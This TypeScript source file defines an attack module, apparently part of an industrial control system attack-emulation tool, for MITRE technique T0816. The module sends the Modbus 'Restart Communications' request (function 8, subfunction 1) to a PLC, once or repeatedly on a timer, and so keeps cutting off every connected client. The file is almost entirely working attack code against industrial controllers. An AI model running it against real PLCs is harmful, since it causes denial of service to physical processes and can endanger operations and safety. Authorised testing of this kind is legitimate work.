// T0816 Device Restart/Shutdown: function 8/1 restarts the communications of the PLC, which cuts off all who are connected.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { answered, KeptLink } from './kept-link.ts'

/** Modbus Application Protocol 1.1b3, 6.8. */
export const RESTART_COMMUNICATIONS = Uint8Array.of(8, 0, 1, 0, 0)

const Parameters = z.strictObject({
  everySeconds: z.number().min(0).max(3600).default(30).describe('After how many seconds it restarts them again; 0 restarts them once.')
})

export const restartCommunications = {
  name: 'restart-communications',
  title: { zh: '重启通信', en: 'Restarted communications' },
  technique: 'T0816',
  parameters: Parameters,
  async aim(foothold, { everySeconds }) {
    const link = await KeptLink.open(foothold)
    return {
      ...{ tags: [], hosts: [link.host], insistSeconds: everySeconds },
      strike: async () => void (await answered(() => link.request(RESTART_COMMUNICATIONS))),
      undo: () => link.cut()
    }
  }
} satisfies Attack<typeof Parameters>
